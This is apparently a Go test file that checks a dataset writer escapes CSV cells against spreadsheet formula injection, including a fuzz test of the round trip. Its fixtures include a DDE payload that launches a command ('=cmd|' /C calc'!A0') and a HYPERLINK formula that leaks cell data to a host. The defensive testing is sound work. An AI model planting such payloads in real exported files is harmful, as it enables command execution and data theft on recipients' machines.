package dataset

import (
	"bytes"
	"context"
	"slices"
	"strconv"
	"strings"
	"testing"

	"gonum.org/v1/gonum/mat"
)

func TestGuarded(t *testing.T) {
	for cell, want := range map[string]string{
		"": "", "a=b": "a=b", "x": "x", "'": "'", "it's": "it's",
		"-1.5": "-1.5", "+2": "+2", "-1e-300": "-1e-300", "1,5": "1,5",
		"=1+1": "'=1+1", "+cmd": "'+cmd", "-2+3": "'-2+3", "@SUM(A1)": "'@SUM(A1)", "\t=1": "'\t=1", "\r=1": "'\r=1",
		"-": "'-", "'=1": "''=1", "''-1": "'''-1", "=": "'=",
	} {
		if got := guarded(cell); got != want {
			t.Errorf("%q is written %q, want %q", cell, got, want)
		}
		if got := unguarded(want); got != cell {
			t.Errorf("%q comes back as %q, want %q", want, got, cell)
		}
	}
}

// No text of a written table begins as a formula does, and names and ids are the
// same when they are read again.
func TestWrittenTablesHoldNoFormula(t *testing.T) {
	names := []string{"=HYPERLINK(\"http://example.com/?\"&A1)", "+a", "-b", "@c", "'=d", "plain"}
	ids := []string{"=cmd|' /C calc'!A0", "-2+3", "\t=1", "''@x"}
	r := Result{IDs: ids, ThetaName: "=θ", Theta: []float64{-1, 2, 3, -4}, Names: names, X: mat.NewDense(4, 6, slices.Repeat([]float64{-1.5, 2}, 12))}
	var file bytes.Buffer
	if err := r.Write(context.Background(), &file); err != nil {
		t.Fatal(err)
	}
	s := newScanner(strings.NewReader(file.String()), ',')
	for row := 0; ; row++ {
		more, err := s.next()
		if err != nil {
			t.Fatal(err)
		}
		if !more {
			break
		}
		for j, cell := range s.cells {
			text := row == 0 || j == 0 // the header, the ids
			if text && isFormula(string(cell)) {
				t.Errorf("row %d, column %d begins a formula: %q", row, j, cell)
			}
		}
	}
	set, err := Read(context.Background(), []File{{Name: "a.csv", Data: file.Bytes()}}, Options{Theta: "=θ", ID: "id"})
	if err != nil {
		t.Fatalf("%v in\n%s", err, file.String())
	}
	if !slices.Equal(set.Names, names) || !slices.Equal(set.IDs, ids) || set.ThetaName != "=θ" {
		t.Errorf("%q, %q and %q came back from\n%s", set.Names, set.IDs, set.ThetaName, file.String())
	}
}

// FuzzGuarded holds that a written text begins no formula, and that it is the
// same when it is read again, alone and as a cell of a table.
func FuzzGuarded(f *testing.F) {
	for _, text := range []string{"", "'", "=1+1", "''-1", "-1e3", "a,b", "\"=a\"", "\t@x", "θ"} {
		f.Add(text)
	}
	f.Fuzz(func(t *testing.T, text string) {
		written := guarded(text)
		if _, err := strconv.ParseFloat(written, 64); err != nil && isFormula(written) {
			t.Fatalf("%q is written %q, a formula", text, written)
		}
		if back := unguarded(written); back != text {
			t.Fatalf("%q is written %q and read %q", text, written, back)
		}
		if strings.ContainsAny(text, "\r\n") || strings.TrimSpace(text) != text || text == "" {
			return // the reader of tables trims cells
		}
		r := Result{Theta: []float64{1, 2}, ThetaName: "theta", Names: []string{text}, X: mat.NewDense(2, 1, []float64{3, 4})}
		var file bytes.Buffer
		if err := r.Write(t.Context(), &file); err != nil {
			t.Fatal(err)
		}
		s := newScanner(&file, ',')
		if more, err := s.next(); err != nil || !more || len(s.cells) != 2 || unguarded(string(s.cells[1])) != text {
			t.Fatalf("the column %q comes back as %q (%v)", text, s.cells, err)
		}
	})
}
